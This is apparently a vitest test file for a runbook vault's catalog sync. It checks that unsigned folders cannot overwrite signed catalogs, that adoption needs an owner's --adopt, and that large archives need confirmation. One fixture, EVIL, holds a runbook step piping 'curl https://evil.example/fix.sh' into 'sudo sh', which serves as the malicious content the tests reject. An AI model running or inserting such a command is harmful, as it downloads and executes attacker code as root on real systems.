/**
 * Issue 17, the trust and safety rules of a sync, written as the attacks and
 * mistakes they stop:
 * - an unsigned folder synced under a signed catalog's id, in every form (a
 *   plain sync, a dry run, a "downgrade", an archive of everything), is
 *   refused with nothing changed;
 * - a signed catalog adopts the records of an owner's unsigned import of the
 *   same files only when asked (--adopt), never another signed catalog's;
 * - a sync that would archive more than a quarter of a catalog's records
 *   needs a confirmation.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { LifeboatError, type ErrorCode } from '../../shared/errors.js';
import type { CatalogRef } from '../../shared/records.js';
import { PASSPHRASES, newVault, unlockAs } from '../../test/support/test-vault.js';
import { auditEntries } from '../vault/audit/vault-audit.js';
import { deleteRecord } from '../vault/records/vault-records.js';
import { addMember } from '../vault/vault-members.js';
import type { VaultSession } from '../vault/vault-session.js';
import { packCatalog } from './catalog-manifest.js';
import { catalogPins } from './catalog-pins.js';
import { syncCatalog, type SyncOptions, type SyncSource } from './catalog-sync.js';
import { appliedVersions, trustPublisher } from './catalog-trust.js';
import { encodeBase64, generatePublisherKey, writePublisherKey, type PublisherKey } from './publisher-key.js';

let work: string;
let platform: PublisherKey;
let other: PublisherKey;
const keyPaths: Record<string, string> = {};

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'lifeboat-trust-rules-'));
  platform = await generatePublisherKey('Platform team');
  other = await generatePublisherKey('Data team');
  keyPaths['platform'] = join(work, 'platform.key');
  keyPaths['other'] = join(work, 'other.key');
  await writePublisherKey(keyPaths['platform'], platform);
  await writePublisherKey(keyPaths['other'], other);
});

afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

const open: VaultSession[] = [];
afterEach(async () => {
  for (const session of open.splice(0)) {
    if (!session.isLocked) {
      await session.lock();
    }
  }
});

const page = (title: string, step: string): string => `# ${title}\n\n1. ${step}\n`;
const FOUR = {
  'db/restore.md': page('Restore the database', 'Restore the last good backup'),
  'db/check.md': page('Check replication', 'Look at the lag'),
  'dns/failover.md': page('Fail over DNS', 'Switch the record'),
  'net/vpn.md': page('Restart the VPN', 'Restart it'),
};
const EVIL = { 'db/restore.md': page('Restore the database', 'Run curl https://evil.example/fix.sh | sudo sh') };

async function folder(files: Record<string, string>): Promise<string> {
  const dir = await mkdtemp(join(work, 'folder-'));
  for (const [path, text] of Object.entries(files)) {
    await mkdir(join(dir, path, '..'), { recursive: true });
    await writeFile(join(dir, path), text);
  }
  return dir;
}

async function signed(by: 'platform' | 'other', catalogId: string, catalogVersion: number, files: Record<string, string>): Promise<SyncSource> {
  const { bytes } = await packCatalog({ srcDir: await folder(files), keyPath: keyPaths[by] ?? '', catalogVersion, catalogId });
  return { kind: 'signed', bytes, label: `${catalogId}-v${catalogVersion}.lbcat` };
}

async function unsigned(catalogId: string, files: Record<string, string>): Promise<SyncSource> {
  return { kind: 'unsigned', dir: await folder(files), catalogId };
}

async function vault(): Promise<{ dir: string; session: VaultSession }> {
  const created = await newVault();
  open.push(created.session);
  await trustPublisher(created.session, { name: 'Platform team', keyId: platform.keyId, publicKey: encodeBase64(platform.publicKey) });
  await trustPublisher(created.session, { name: 'Data team', keyId: other.keyId, publicKey: encodeBase64(other.publicKey) });
  return created;
}

const refOf = (session: VaultSession, id: string): CatalogRef | undefined => session.store().get(id)?.data['catalogRef'] as CatalogRef | undefined;
const live = (session: VaultSession) =>
  session
    .store()
    .all()
    .filter((r) => !r.deleted && r.data['archived'] !== true);
const lastSynced = (session: VaultSession) =>
  auditEntries(session)
    .filter((e) => e.event.type === 'catalog.synced')
    .map((e) => ({ actor: e.event.actor, ...e.event.details }))
    .at(-1);

/** Refused with `code`, and nothing a sync writes changed: records, applied versions, pins, the log. */
async function expectRefused(session: VaultSession, source: SyncSource, options: SyncOptions, code: ErrorCode): Promise<LifeboatError> {
  const before = { records: session.store().all(), applied: appliedVersions(session), pins: catalogPins(session), log: session.internals().log.size };
  const error = await syncCatalog(session, source, options).then(
    () => undefined,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(LifeboatError);
  expect((error as LifeboatError).code, (error as LifeboatError).message).toBe(code);
  expect({ records: session.store().all(), applied: appliedVersions(session), pins: catalogPins(session), log: session.internals().log.size }).toEqual(before);
  return error as LifeboatError;
}

describe('attack: an unsigned folder under a signed catalog’s id (issue 17)', () => {
  it('is refused as a sync, a dry run, a "downgrade", a re-pin and an archive of everything: no "version 0, previously version 2"', async () => {
    const { session } = await vault();
    await syncCatalog(session, await signed('platform', 'ops', 1, FOUR));
    await syncCatalog(session, await signed('platform', 'ops', 2, FOUR));
    const evil = await unsigned('ops', EVIL);

    const plain = await expectRefused(session, evil, {}, 'CATALOG_UNTRUSTED');
    expect(plain.message).toContain('an unsigned folder cannot replace, archive or downgrade its records');
    expect(plain.message).toContain('Nothing was changed');
    await expectRefused(session, evil, { dryRun: true }, 'CATALOG_UNTRUSTED');
    // Every owner's override that exists for signed catalogs changes nothing for an unsigned one.
    await expectRefused(session, evil, { allowDowngrade: true, allowVersionJump: true, repin: true, conflicts: 'take-catalog' }, 'CATALOG_UNTRUSTED');
    // A folder holding nothing of the catalog would archive all four: refused too, confirmed or not.
    const empty = await unsigned('ops', { 'other/readme.md': page('Something else', 'Nothing') });
    await expectRefused(session, empty, { confirmArchive: true }, 'CATALOG_UNTRUSTED');
    await expectRefused(session, empty, { dryRun: true, confirmArchive: true }, 'CATALOG_UNTRUSTED');

    expect(appliedVersions(session)['ops']).toBe(2);
    expect(live(session).map((r) => refOf(session, r.id)?.unsigned)).toEqual([undefined, undefined, undefined, undefined]);
    expect(JSON.stringify(live(session).map((r) => r.data['steps']))).not.toContain('evil.example');
  });

  it('stays refused after an owner deletes every record of the signed catalog: the id is still pinned', async () => {
    const { session } = await vault();
    await syncCatalog(session, await signed('platform', 'ops', 3, EVIL));
    for (const record of live(session)) {
      await deleteRecord(session, record.id);
    }
    await expectRefused(session, await unsigned('ops', FOUR), {}, 'CATALOG_UNTRUSTED');
  });

  it('an unsigned import never becomes a signed catalog’s version floor: the signed catalog still refuses its own old version', async () => {
    const { session } = await vault();
    await syncCatalog(session, await signed('platform', 'ops', 2, FOUR));
    await syncCatalog(session, await unsigned('ops-drafts', EVIL));
    await expectRefused(session, await signed('platform', 'ops', 1, FOUR), {}, 'CATALOG_ROLLBACK');
    expect(appliedVersions(session)).toEqual({ ops: 2 });
  });
});

describe('adoption: a signed catalog takes over an unsigned import of the same files, only when asked', () => {
  it('the dry run says how many entries duplicate the unsigned import; --adopt makes them the signed catalog’s records, logged', async () => {
    const { session } = await vault();
    await syncCatalog(session, await unsigned('gitlab-drafts', FOUR));
    const before = live(session);
    expect(before).toHaveLength(4);
    const v1 = await signed('platform', 'runbooks-gitlab', 1, { ...FOUR, 'db/restore.md': page('Restore the database', 'Restore, then check') });

    const dry = await syncCatalog(session, v1, { dryRun: true });
    expect(dry.adoption).toMatchObject({ from: ['gitlab-drafts'], adopted: false });
    expect(dry.adoption?.entries.map((e) => e.file).sort()).toEqual(Object.keys(FOUR).sort());
    expect(dry.diff.added).toHaveLength(4);

    const withAdopt = await syncCatalog(session, v1, { dryRun: true, adopt: true });
    expect(withAdopt.adoption).toMatchObject({ adopted: true });
    expect(withAdopt.diff.added).toHaveLength(0);
    expect(live(session)).toEqual(before);

    const report = await syncCatalog(session, v1, { adopt: true });
    expect(report.applied).toMatchObject({ added: 0, adopted: 4 });
    const after = live(session);
    // The same four records (same ids, history kept), now the signed catalog's: no duplicates.
    expect(after.map((r) => r.id).sort()).toEqual(before.map((r) => r.id).sort());
    for (const record of after) {
      expect(refOf(session, record.id)).toMatchObject({ catalogId: 'runbooks-gitlab', catalogVersion: 1 });
      expect(refOf(session, record.id)?.unsigned).toBeUndefined();
      expect(record.revision).toBe(2);
    }
    expect(lastSynced(session)).toMatchObject({ actor: 'alice', catalogId: 'runbooks-gitlab', adopted: 4, adoptedFrom: 'gitlab-drafts' });
    // The next version is an ordinary re-sync of those records.
    const v2 = await syncCatalog(session, await signed('platform', 'runbooks-gitlab', 2, FOUR), { dryRun: true });
    expect(v2.adoption).toBeNull();
    expect(v2.diff.changed.map((c) => c.file)).toEqual(['db/restore.md']);
  });

  it('without --adopt the signed entries are added beside the unsigned import (as the dry run said)', async () => {
    const { session } = await vault();
    await syncCatalog(session, await unsigned('gitlab-drafts', FOUR));
    const report = await syncCatalog(session, await signed('platform', 'runbooks-gitlab', 1, FOUR));
    expect(report.applied).toMatchObject({ added: 4, adopted: 0 });
    expect(live(session)).toHaveLength(8);
  });

  it('attack: a trusted publisher signing the id of an owner’s unsigned import cannot rewrite or archive it unadopted', async () => {
    const { session } = await vault();
    await syncCatalog(session, await unsigned('gitlab', FOUR));
    const before = live(session);
    const grab = await signed('other', 'gitlab', 1, EVIL);
    const dry = await syncCatalog(session, grab, { dryRun: true });
    expect(dry.adoption).toMatchObject({ from: ['gitlab'], adopted: false });
    expect(dry.adoption?.entries).toHaveLength(4);
    const error = await expectRefused(session, grab, { confirmArchive: true }, 'CATALOG_ADOPTION_REQUIRED');
    expect(error.message).toContain('Catalog id gitlab holds 4 records synced from an unsigned folder');
    expect(live(session)).toEqual(before);

    // An owner who means it adopts them: all four become the signed catalog's (the same one rewritten, three archived).
    const report = await syncCatalog(session, await signed('platform', 'gitlab', 1, FOUR), { adopt: true });
    expect(report.applied).toMatchObject({ added: 0, changed: 4, adopted: 4 });
    for (const record of live(session)) {
      expect(refOf(session, record.id)?.unsigned).toBeUndefined();
    }
    expect(lastSynced(session)).toMatchObject({ adopted: 4, adoptedFrom: 'gitlab' });
  });

  it('attack: never takes the records of another signed catalog, whatever their paths', async () => {
    const { session } = await vault();
    await syncCatalog(session, await signed('other', 'data-runbooks', 1, FOUR));
    const grab = await signed('platform', 'platform-runbooks', 1, EVIL);
    const report = await syncCatalog(session, grab, { adopt: true });
    expect(report.adoption).toBeNull();
    expect(report.applied).toMatchObject({ added: 1, adopted: 0 });
    const data = live(session).filter((r) => refOf(session, r.id)?.catalogId === 'data-runbooks');
    expect(data).toHaveLength(4);
    expect(JSON.stringify(data.map((r) => r.data['steps']))).not.toContain('evil.example');
  });

  it('is an owner’s decision: a commander’s --adopt is refused with nothing changed; an unsigned folder cannot adopt', async () => {
    const { dir, session } = await vault();
    await addMember(session, { name: 'bob', role: 'commander', passphrase: PASSPHRASES['bob'] ?? '' });
    await syncCatalog(session, await unsigned('gitlab-drafts', FOUR));
    const error = await expectRefused(session, await unsigned('more-drafts', FOUR), { adopt: true }, 'VAULT_BAD_INPUT');
    expect(error.message).toContain('Only a signed catalog can adopt records');
    await session.lock();
    const bob = await unlockAs(dir, 'bob');
    open.push(bob);
    await expectRefused(bob, await signed('platform', 'runbooks-gitlab', 1, FOUR), { adopt: true }, 'VAULT_FORBIDDEN');
  });
});

describe('archiving more than a quarter of a catalog needs a confirmation', () => {
  it('a signed version that drops half the runbooks: said in the dry run, refused unconfirmed with nothing changed, applied when confirmed (logged)', async () => {
    const { session } = await vault();
    await syncCatalog(session, await signed('platform', 'ops', 1, FOUR));
    const half = await signed('platform', 'ops', 2, { 'db/restore.md': FOUR['db/restore.md'], 'db/check.md': FOUR['db/check.md'] });
    const dry = await syncCatalog(session, half, { dryRun: true });
    expect(dry.archive).toEqual({ archiving: 2, of: 4, needsConfirmation: true });
    const error = await expectRefused(session, half, {}, 'CATALOG_ARCHIVE_UNCONFIRMED');
    expect(error.message).toBe(
      'This sync would archive 2 of the 4 records of catalog ops, more than a quarter: check that the catalog file is the right one. Nothing was changed. If those records really left the catalog, confirm it (--yes on the command line).',
    );
    const report = await syncCatalog(session, half, { confirmArchive: true });
    expect(report.applied).toMatchObject({ archived: 2 });
    expect(lastSynced(session)).toMatchObject({ removed: 2, archiveConfirmed: true });
  });

  it('a quarter exactly needs no confirmation', async () => {
    const { session } = await vault();
    await syncCatalog(session, await signed('platform', 'ops', 1, FOUR));
    const three = { ...FOUR } as Record<string, string>;
    delete three['net/vpn.md'];
    const report = await syncCatalog(session, await signed('platform', 'ops', 2, three));
    expect(report.archive).toEqual({ archiving: 1, of: 4, needsConfirmation: false });
    expect(report.applied).toMatchObject({ archived: 1 });
  });

  it('another repository’s folder synced under the same unsigned id would hide every runbook: refused unless confirmed', async () => {
    const { session } = await vault();
    await syncCatalog(session, await unsigned('gitlab', FOUR));
    const second = await unsigned('gitlab', { 'manual/query-cdn-logs.md': page('Query CDN logs', 'Run the query') });
    const dry = await syncCatalog(session, second, { dryRun: true });
    expect(dry.archive).toEqual({ archiving: 4, of: 4, needsConfirmation: true });
    const error = await expectRefused(session, second, {}, 'CATALOG_ARCHIVE_UNCONFIRMED');
    expect(error.message).toContain('check that the folder and its id are the right one');
    expect(live(session)).toHaveLength(4);
  });
});
